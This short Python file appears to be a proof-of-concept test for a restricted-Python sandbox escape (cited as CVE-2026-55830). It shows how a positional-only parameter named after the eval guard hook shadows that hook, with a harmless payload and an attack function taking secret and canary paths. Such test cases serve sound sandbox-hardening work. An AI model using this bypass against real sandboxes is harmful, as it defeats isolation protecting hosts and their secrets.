# mypy: ignore-errors
# Technique: shadow the direct-eval guard hook with a positional-only parameter of the same
# name, so that `eval(...)` in that function calls the argument.
# Advisory: CVE-2026-55830 / GHSA-ffg3-p8fm-mjx2 (RestrictedPython: positional-only
# parameters skipped the name check and shadowed `_getattr_`/`_write_` guard hooks)
def inner(__sp_direct_eval__, /):
    return eval("1 + 1")


def attack(secret_path, canary_path):
    return inner(lambda src: src)
